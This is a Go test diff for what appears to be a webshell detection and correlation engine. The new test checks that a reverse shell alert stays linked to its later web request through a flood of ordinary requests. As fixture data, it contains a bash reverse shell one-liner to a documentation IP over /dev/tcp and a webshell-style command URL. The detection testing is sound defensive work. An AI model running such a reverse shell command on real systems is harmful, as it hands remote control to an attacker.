@@ -612,3 +612,36 @@ func TestHeldRequestsPerHost(t *testing.T) {
 		t.Errorf("the shell carries request %q, want /x.php?c=id (linked: %v)", got, val(proc, "webshell.request"))
 	}
 }
+
+// A long-running shell's alert is held until its request is logged, which
+// for a reverse shell comes minutes later: the requests of a busy site in
+// between (more than max_pending) must not push it out, or the link the
+// correlator still makes shows in no document.
+func TestLongShellOutlivesBusyRequests(t *testing.T) {
+	const cmd = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
+	cfg := config.Default()
+	cfg.Correlation.MaxPending = 100
+	det, err := detector.New(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	shell := shellDoc(5, 900, 800, "sh -c "+cmd)
+	det.ProcessAll(shell)
+	if str(shell, "event.kind") != "alert" {
+		t.Fatalf("the reverse shell raised no alert: %v", ids(shell))
+	}
+	for i := range 300 { // 5 requests a second for a minute
+		det.ProcessAll(requestDoc(6+i/5, fmt.Sprintf("/page/%d", i), ""))
+	}
+	req := requestDoc(66, "/up/x.php?c=cmd", cmd)
+	req["event"].(map[string]any)["module"] = "nginx" // logged when it ended
+	_, derived := det.ProcessAll(req)
+	if val(req, "webshell.processes.count") != 1 {
+		t.Errorf("the request lists no shell: %v", val(req, "webshell.processes"))
+	}
+	if !slices.ContainsFunc(derived, func(d detector.Derived) bool {
+		return str(d.Doc, "webshell.request.url.original") == "/up/x.php?c=cmd"
+	}) {
+		t.Errorf("no updated copy of the shell's alert carries its request (%d derived)", len(derived))
+	}
+}
